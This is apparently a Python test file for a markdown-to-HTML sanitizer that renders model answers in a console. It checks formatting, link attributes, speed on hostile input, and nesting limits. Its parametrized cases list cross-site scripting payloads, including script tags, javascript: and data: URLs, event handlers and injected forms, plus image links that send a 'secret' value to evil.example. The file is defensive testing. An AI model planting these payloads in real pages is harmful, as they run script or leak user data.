"""Answers are formatted, and cannot bring scripts, images or forms into the page."""

import time
from html.parser import HTMLParser

import pytest

from services.gateway.console.markdown import CHARACTERS_MAX, to_html


class _Tags(HTMLParser):
    """Collects the tags of a text as a browser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [(name, value or "") for name, value in attrs]))


def test_the_usual_markdown_of_models_is_formatted() -> None:
    table = "| a | b |\n|---|--:|\n| 1 | 2 |\n"
    html = to_html(f'# Title\n\nSome **bold** `code`\nnext line\n\n```python\nprint("<b>")\n```\n\n{table}')

    assert html is not None
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong> <code>code</code><br>" in html
    assert 'print("&lt;b&gt;")' in html
    assert '<td align="right">2</td>' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src="https://evil.example/?q=secret">',
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        '<a href="https://example.com" onclick="alert(1)" style="position:fixed">x</a>',
        '<form action="/account/delete" method="post"><button>x</button></form>',
        "<svg/onload=alert(1)>",
        "<iframe src=/account></iframe>",
        '<p style="position:fixed" id="talk">x</p>',
        "<math><mi//xlink:href=javascript:alert(1)>",
    ],
)
def test_no_markup_of_an_answer_runs_or_loads_anything(text: str) -> None:
    parser = _Tags()
    parser.feed(to_html(text) or "")

    assert {tag for tag, _ in parser.found} <= {"p", "a", "br"}
    attributes = [pair for _, attrs in parser.found for pair in attrs]
    assert {name for name, _ in attributes} <= {"href", "rel"}
    assert all(not value or value.startswith(("https:", "noopener")) for _, value in attributes)


def test_links_open_without_a_referrer() -> None:
    assert to_html("[x](https://example.com)") == (
        '<p><a href="https://example.com" rel="noopener noreferrer">x</a></p>\n'
    )


@pytest.mark.parametrize("part", ["[", "*a **a ", "> ", "`", "![[]()", "<a", "|a", "- ", "[a](", "&#", "_a__", "\\["])
def test_hostile_text_of_the_maximum_length_takes_less_than_a_second(part: str) -> None:
    started = time.process_time()
    to_html((part * CHARACTERS_MAX)[:CHARACTERS_MAX])
    assert time.process_time() - started < 1


def test_deep_nesting_is_not_formatted() -> None:
    assert to_html("> " * 90 + "deep") is not None
    assert to_html("> " * 110 + "deep") is None
    assert to_html("\n".join("  " * depth + "- a" for depth in range(120))) is None
